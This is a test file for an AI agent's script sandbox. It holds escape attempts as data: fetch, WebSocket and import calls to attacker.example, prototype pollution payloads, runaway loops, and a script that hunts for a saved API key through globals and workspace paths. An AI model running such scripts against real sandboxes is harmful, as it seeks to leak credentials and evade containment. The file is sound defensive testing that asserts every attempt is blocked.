/**
 * Code mode and user tools tried with escape attempts (issue 28 part 3): a script that reaches for
 * the page (window, document, self, location, navigator), the network (`fetch`, XMLHttpRequest,
 * WebSocket, `importScripts`, a dynamic `import()`), timers, the host functions the prelude hides,
 * the saved keys, the engine's prototypes (polluting Object.prototype and Array.prototype inside the
 * sandbox, or returning `__proto__` and `constructor.prototype` keys for the host to take), runaway
 * memory and recursion, a huge result, and a script that never ends. Each attempt is contained: it
 * either gets a typed error (`ScriptError` for what the sandbox does not have, a limit's own error
 * class for a runaway) or an inert result (plain data, "undefined" for every page global), and the
 * engine's realm is unchanged after it (its prototypes, and network globals replaced by spies that
 * must never be called). Every attempt runs through both doors a script enters by: the `codemode`
 * tool (the model's script) and a user tool (the body a user saved), on both paths a script runs
 * (a script worker, and the engine's own thread as in the browser's SharedWorker engine).
 * Then through a whole engine: a key saved in the store, a script that looks for it everywhere it
 * can reach; the key is in no entry, output or document of the conversation.
 */
import { fauxAssistantMessage, fauxToolCall } from "@mariozechner/pi-ai";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { API_KEYS_DOC, SETTINGS_CONVERSATION } from "../../../worker/agent/models/keys.ts";
import { ENTRY } from "../../../worker/agent/records.ts";
import { createCodemodeTool } from "../../../worker/agent/tools/builtin/codemode.ts";
import type { ToolApi, ToolDefinition, ToolResult } from "../../../worker/agent/tools/contract.ts";
import { MemoryFs } from "../../../worker/agent/workspace/memory-fs.ts";
import { createUserTool } from "../../../worker/app/user-tools/tool.ts";
import { setScriptWorkers } from "../../../worker/sandbox/workers.ts";
import { detachedToolApi, type FauxResponder, nodeScriptWorkers } from "../../../worker/testing.ts";
import { hostileEngine, storeState } from "./hostile-fixtures.ts";

const LIMITS = {
  sliceMs: 100,
  cpuMs: 1_000,
  memoryBytes: 16 * 1024 * 1024,
  stackBytes: 256 * 1024,
  outputBytes: 64 * 1024,
  calls: 50,
};

type Outcome = { readonly error: string; readonly message: RegExp } | { readonly value: unknown };

/**
 * The huge results are built and serialized in one synchronous stretch, which on a loaded machine
 * can pass a 100 ms slice before the value is handed over: those rows run with a longer slice, so
 * the bound they meet is the result's.
 */
const LONG_SLICE = new Set(["a huge result (a 4 MB string)", "a huge result (a list of 30,000 strings)"]);

const notDefined = (name: string): Outcome => ({ error: "ScriptError", message: new RegExp(`${name}`) });

/** Each attempt: its name, the script (an async function's body), and what it must get. */
const ATTEMPTS: ReadonlyArray<readonly [string, string, Outcome]> = [
  [
    "the page: window, document, self, parent, location, navigator, process, require",
    "return [typeof window, typeof document, typeof self, typeof parent, typeof location, typeof navigator, typeof process, typeof require];",
    { value: Array(8).fill("undefined") },
  ],
  ["fetch", 'return await fetch("https://attacker.example/?k=1");', notDefined("fetch")],
  [
    "XMLHttpRequest",
    'const x = new XMLHttpRequest(); x.open("GET", "https://attacker.example/"); x.send();',
    notDefined("XMLHttpRequest"),
  ],
  ["WebSocket", 'new WebSocket("wss://attacker.example/");', notDefined("WebSocket")],
  ["importScripts", 'importScripts("https://attacker.example/x.js");', notDefined("importScripts")],
  [
    "a dynamic import()",
    'return await import("https://attacker.example/x.js");',
    { error: "ScriptError", message: /./ },
  ],
  ["setTimeout", "setTimeout(() => {}, 0);", notDefined("setTimeout")],
  ["setInterval", "setInterval(() => {}, 1);", notDefined("setInterval")],
  [
    "the global object through Function, and the host functions the prelude hides",
    'const g = Function("return this")(); return [g === globalThis, typeof g.fetch, typeof g.__sandboxCall, typeof g.__sandboxPrint, typeof __sandboxCall];',
    { value: [true, "undefined", "undefined", "undefined", "undefined"] },
  ],
  [
    "the saved keys: every global name, and the names of keys' documents",
    "const names = Object.getOwnPropertyNames(globalThis); return names.filter((n) => /key|secret|token|apiKeys|settings|engine|harness|store/i.test(n));",
    { value: [] },
  ],
  [
    "prototype pollution inside the sandbox (Object.prototype, Array.prototype, JSON)",
    'Object.prototype.polluted = "yes"; Array.prototype.polluted = "yes"; Array.prototype.push = () => 0; JSON.stringify = () => "{}"; return { list: [1, 2] };',
    { value: { list: [1, 2] } },
  ],
  [
    "prototype pollution through the returned value (__proto__, constructor.prototype)",
    'return JSON.parse(\'{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "list": [{"__proto__": {"polluted": "yes"}}]}\');',
    {
      value: JSON.parse(
        '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "list": [{"__proto__": {"polluted": "yes"}}]}',
      ),
    },
  ],
  [
    "runaway memory",
    "const keep = []; for (;;) keep.push(new Array(1e5).fill(1));",
    { error: "MemoryLimitExceeded", message: /ran out of memory/ },
  ],
  [
    "runaway recursion",
    "function f(n) { return f(n + 1) + 1; } return f(0);",
    { error: "StackLimitExceeded", message: /stack overflowed/ },
  ],
  [
    "a huge result (a 4 MB string)",
    'return "x".repeat(12 * 1024 * 1024);',
    {
      error: "ResultLimitExceeded",
      message: /returned 12582914 bytes of JSON, more than its limit of 1048576/,
    },
  ],
  [
    "a huge result (a list of 30,000 strings)",
    'return Array.from({ length: 30000 }, (_, i) => "y".repeat(60) + i);',
    { error: "ResultLimitExceeded", message: /more than its limit of 1048576/ },
  ],
  [
    "a script that never ends (a loop)",
    "for (;;) {}",
    { error: "CpuSliceExceeded", message: /without yielding/ },
  ],
  [
    "a script that never ends (an endless chain of awaits)",
    "for (;;) await null;",
    { error: "CpuTimeExceeded", message: /CPU time/ },
  ],
  [
    "a script that never ends (a promise nothing settles)",
    "await new Promise(() => {}); return 1;",
    { error: "ScriptError", message: /./ },
  ],
];

/** A tool api outside an engine: memos run their factory, no call is journaled, no tool is offered. */
function api(): ToolApi {
  return {
    ...detachedToolApi({ fs: new MemoryFs(), output: () => undefined }),
    memo: (async (_key: string, make: () => unknown) => make()) as ToolApi["memo"],
    recordedCall: async () => undefined,
  };
}

/** The script as a saved user tool's body: `async (args, tools) => { <script> }`. */
const userTool = (script: string, limits: typeof LIMITS): ToolDefinition =>
  createUserTool(
    {
      name: "escape",
      description: "tries to escape",
      parameters: { type: "object", properties: {} },
      body: `async (args, tools) => {\n${script}\n}`,
      version: 1,
      savedAt: 0,
    },
    { limits },
  );

async function attempt(
  door: string,
  script: string,
  limits: typeof LIMITS,
): Promise<{ result?: ToolResult; error?: Error }> {
  const tool =
    door === "codemode"
      ? (createCodemodeTool({ limits }) as unknown as ToolDefinition)
      : userTool(script, limits);
  const args = door === "codemode" ? { script } : {};
  try {
    return { result: await tool.execute(args as never, api()) };
  } catch (error) {
    return { error: error as Error };
  }
}

/** The engine realm's shape, compared before and after each attempt. */
const realm = () => ({
  object: Object.getOwnPropertyNames(Object.prototype).sort(),
  array: Object.getOwnPropertyNames(Array.prototype).sort(),
  push: Array.prototype.push,
  stringify: JSON.stringify,
  polluted: [({} as { polluted?: unknown }).polluted, ([] as unknown as { polluted?: unknown }).polluted],
});

const network = { fetch: vi.fn(), XMLHttpRequest: vi.fn(), WebSocket: vi.fn(), importScripts: vi.fn() };
beforeEach(() => {
  for (const [name, spy] of Object.entries(network)) vi.stubGlobal(name, spy);
});
afterEach(() => {
  vi.unstubAllGlobals();
  for (const spy of Object.values(network)) spy.mockClear();
});

describe.each([
  { where: "in a script worker", workers: true },
  { where: "in the engine's thread", workers: false },
] as const)("$where", ({ workers }) => {
  beforeAll(() => setScriptWorkers(workers ? nodeScriptWorkers() : undefined));
  afterAll(() => setScriptWorkers(undefined));

  describe.each(["codemode", "a user tool"])("through %s", (door) => {
    test.each(ATTEMPTS)("%s: contained", async (name, script, outcome) => {
      const before = realm();
      const limits = LONG_SLICE.has(name) ? { ...LIMITS, sliceMs: 5_000, cpuMs: 10_000 } : LIMITS;
      const { result, error } = await attempt(door, script, limits);
      if ("error" in outcome) {
        expect(error?.name, `${error?.message ?? JSON.stringify(result?.details)}`).toBe(outcome.error);
        expect(error?.message).toMatch(outcome.message);
      } else {
        expect(error, error?.message).toBeUndefined();
        expect((result?.details as { result?: unknown } | undefined)?.result).toEqual(outcome.value);
      }
      expect(realm()).toEqual(before);
      for (const [name, spy] of Object.entries(network)) expect(spy, name).not.toHaveBeenCalled();
    });
  });
});

const KEY = "sk-ant-api03-SAVEDkeyNEVERinAscript0123456789";
/** Looks for the key everywhere a script reaches: every global, and the workspace through the tools. */
const SEEKER = `
const found = [JSON.stringify(Object.getOwnPropertyNames(globalThis).map((n) => [n, typeof globalThis[n]]))];
for (const path of ["/", ".", "..", "/settings", "engine.apiKeys", "/engine.apiKeys", "../0", "/.."]) {
  try { found.push(JSON.stringify(await ls({ path }))); } catch (e) { found.push(String(e)); }
  try { found.push(JSON.stringify(await read({ path }))); } catch (e) { found.push(String(e)); }
}
return found.join("\\n");
`;

describe("a whole engine", () => {
  test("a key saved in the store, looked for by a script everywhere it reaches: in no entry, output or document", async () => {
    const responder: FauxResponder = (request) =>
      request.messages.some((m) => m.role === "toolResult")
        ? fauxAssistantMessage("done")
        : fauxAssistantMessage([fauxToolCall("codemode", { script: SEEKER }, { id: "seek" })], {
            stopReason: "toolUse",
          });
    const { service, harness, faux, store, close } = await hostileEngine(responder, { tools: true });
    const tab = service.tab("seeker");
    // The key of the very model answering, so every request of the run reads it.
    await tab.keys.set(faux.model.provider, KEY);
    const id = await tab.conversations.create();
    await tab.run.submit(id, { text: "look for keys" });
    await harness.waitForIdle();
    const entries = await tab.watches.entries(id);
    const result = entries.find((e) => e.kind === ENTRY.toolResult);
    expect(JSON.stringify(result?.model)).toContain("Result:"); // the script ran to its end
    expect(JSON.stringify(entries)).not.toContain(KEY);
    expect((await tab.conversations.export(id)).text).not.toContain(KEY);
    // Every row of every table but the keys' own document (conversation 0's settings).
    const { tables } = await storeState(store);
    const holding = Object.entries(tables).flatMap(([table, rows]) =>
      rows.filter((row) => JSON.stringify(row).includes(KEY)).map((row) => ({ table, row })),
    );
    expect(
      holding.map(({ table, row }) => [
        table,
        (row as { conversation_id?: unknown; name?: unknown }).conversation_id,
        (row as { name?: unknown }).name,
      ]),
    ).toEqual([["documents", SETTINGS_CONVERSATION, API_KEYS_DOC]]);
    await close();
  });
});
